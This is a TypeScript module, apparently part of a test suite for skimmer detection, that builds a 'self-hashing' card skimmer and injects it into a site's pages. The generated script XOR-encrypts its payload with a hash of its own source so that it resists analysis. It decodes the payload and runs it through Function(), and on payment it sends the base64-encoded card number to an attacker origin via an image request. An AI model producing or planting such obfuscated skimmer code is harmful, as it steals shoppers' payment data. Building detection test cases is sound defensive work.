import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'self-hashing',
  why: "The key to its strings is a hash of its own source: changed by a formatter or a breakpoint's text, it decodes to nothing (2 of 88 samples; hardest 9).",
  covers: ['obfuscation: self-hashing', 'hard: resists analysis', 'obfuscation: eval'],
  base: 'direct',
  install: (site) => {
    // The hash is taken over a function whose text does not hold the encrypted strings.
    const keyed =
      'function k(){var t=k.toString(),h=5381;for(var i=0;i<t.length;i++)h=(h*33^t.charCodeAt(i))>>>0;return h}';
    let hash = 5381;
    for (const c of keyed) hash = ((Math.imul(hash, 33) >>> 0) ^ c.charCodeAt(0)) >>> 0;
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/sh.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    const sealed = Array.from(code, (c, i) => c.charCodeAt(0) ^ ((hash >>> ((i % 4) * 8)) & 255)).join();
    site.append(
      `(function(){${keyed}var h=k();Function([${sealed}].map(function(c,i){return String.fromCharCode(c^((h>>>(i%4*8))&255))}).join(''))()})();`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
